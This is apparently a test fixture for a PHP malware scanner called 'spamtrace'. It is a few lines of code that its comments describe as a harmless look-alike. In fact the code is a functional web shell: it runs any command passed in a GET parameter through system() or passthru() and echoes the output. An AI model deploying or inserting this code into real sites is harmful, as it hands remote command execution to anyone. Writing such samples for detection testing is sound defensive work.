<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
// The shell picks one of several execution functions by name.
$cmd = isset($_GET['c']) ? $_GET['c'] : 'id';
$mode = isset($_GET['m']) ? (int) $_GET['m'] : 1;
$fe = "system";
if ($mode == 2) {
    $fe = "passthru";
}
$fe("$cmd 2>&1");
